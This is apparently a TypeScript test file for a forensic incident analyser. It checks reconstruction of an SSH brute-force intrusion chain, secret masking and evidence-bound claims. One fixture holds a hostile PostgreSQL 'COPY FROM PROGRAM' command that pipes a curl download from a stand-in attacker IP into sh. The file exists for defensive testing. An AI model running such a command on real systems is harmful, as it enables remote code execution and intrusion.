import { expect, test } from 'bun:test';
import * as z from 'zod';
import { Analyser } from '../incident/analyse.ts';
import {
  accepted,
  at,
  entry,
  event,
  failures,
  left,
  miner,
  read,
  scene,
  text,
} from '../incident/incident.fixture.ts';
import { messagesFor } from '../messages/index.ts';
import {
  bounds,
  chainSteps,
  familyStandings,
  gapKinds,
  grades,
  missings,
  neighbourReasons,
  onsets,
  toldConflicts,
  vectors,
} from '../model/incident.ts';
import { maskPrintable } from '../model/mask.ts';
import { incidentFields } from '../model/result-incident.ts';
import { resultIncident } from './result-incident.ts';

const schema = z.strictObject(incidentFields);
const attacker = '203.0.113.66';

function resultOf(events: Parameters<Analyser['see']>[0][], of = scene()) {
  const analyser = new Analyser();
  for (const one of events) analyser.see(one);
  return schema.parse(resultIncident(analyser.conclude(of, at('2024-03-20 00:00:00')), maskPrintable));
}

test('a way in with its lines, times and bounds, as it is published', () => {
  const log =
    failures('2024-03-10 02:00:00', 90, 20, [attacker], ['root', 'admin', 'pi']) +
    accepted('2024-03-10 02:31:00', 'root', attacker);
  const result = resultOf(
    [...read(log)],
    scene({
      files: [left('/root/.x/run.sh', '2024-03-10 02:33:00')],
      entries: [entry('cron-user', '/var/spool/cron/root', '2024-03-10 02:34:00')],
      miners: [miner('2024-03-10 02:35:00')],
    }),
  );
  expect(result.entry?.[0]).toMatchObject({
    vector: 'ssh-brute-force',
    grade: 'confirmed',
    attackers: [attacker],
    account: 'root',
    firstSuccess: '2024-03-10T02:31:00Z',
    service: 'sshd',
    missing: [],
  });
  expect(result.entry?.[0]?.chain.map(({ step, time }) => `${time} ${step}`)).toEqual([
    '2024-03-10T02:00:00Z attempt',
    '2024-03-10T02:31:00Z success',
    '2024-03-10T02:33:00Z file',
    '2024-03-10T02:34:00Z persistence',
    '2024-03-10T02:35:00Z miner',
  ]);
  expect(result).toMatchObject({
    firstMaliciousFile: { path: '/root/.x/run.sh', time: '2024-03-10T02:33:00Z', grounded: true },
    infectionWindow: {
      from: '2024-03-10T02:31:00Z',
      to: '2024-03-10T02:33:00Z',
      boundedBy: { from: 'success', to: 'file' },
    },
    onset: {
      time: '2024-03-10T02:35:00Z',
      by: 'miner',
      witnesses: [{ by: 'miner', source: '/proc/4242', text: '/tmp/.x/kswapd0 (pid 4242)' }],
    },
    horizon: [{ source: '/var/log/auth.log', from: '2024-03-10T02:00:00Z' }],
    gaps: [],
  });
});

test('secrets of a line are masked, and times beyond all calendars are told as far as they go', () => {
  const far = event('2024-03-10 02:31:00', {
    what: 'service',
    service: 'postgresql',
    action: 'statement',
    account: text('postgres'),
    from: text(attacker),
    detail: text("COPY t FROM PROGRAM 'curl http://203.0.113.66/x|sh'"),
  });
  const secret = text('LOG: statement: COPY t FROM PROGRAM; password=hunter2hunter2');
  const result = resultOf(
    [
      { ...far, text: secret },
      { ...far, us: Number.MAX_SAFE_INTEGER },
    ],
    scene({ files: [left('/tmp/.pg', '2024-03-10 02:31:05', 'postgres')] }),
  );
  expect(JSON.stringify(result)).not.toContain('hunter2');
  expect(result.horizon?.[0]?.to).toBe('2255-06-05T23:47:34Z');
});

test('where nothing was found, nothing is claimed', () => {
  expect(resultOf([])).toEqual({ entry: [], horizon: [], gaps: [] });
});

test('every id of a result has its words in both languages', () => {
  for (const texts of [messagesFor('en').incident, messagesFor('zh-CN').incident]) {
    expect(Object.keys(texts.vectors)).toEqual([...vectors]);
    expect(Object.keys(texts.grades)).toEqual([...grades]);
    expect(Object.keys(texts.steps)).toEqual([...chainSteps]);
    expect(Object.keys(texts.missing)).toEqual([...missings]);
    expect(Object.keys(texts.gaps)).toEqual([...gapKinds]);
    expect(Object.keys(texts.bounds)).toEqual([...bounds]);
    expect(Object.keys(texts.onsets)).toEqual([...onsets]);
    expect(Object.keys(texts.standings)).toEqual([...familyStandings]);
    expect(Object.keys(texts.conflicts)).toEqual([...toldConflicts]);
    expect(Object.keys(texts.neighbours)).toEqual([...neighbourReasons]);
  }
});

test('what was looked at is told where no way in was found too', () => {
  const guesses = failures('2024-03-10 02:00:00', 90, 20, [attacker], ['root', 'admin', 'pi']);
  const result = resultOf(
    [...read(guesses)],
    scene({ files: [left('/root/.x/run.sh', '2024-03-12 02:33:00')] }),
  );
  expect(result.entry).toEqual([]);
  expect(result.excluded).toContainEqual(
    expect.objectContaining({ vector: 'ssh-brute-force', service: 'sshd', what: 'failed-guesses' }),
  );
});
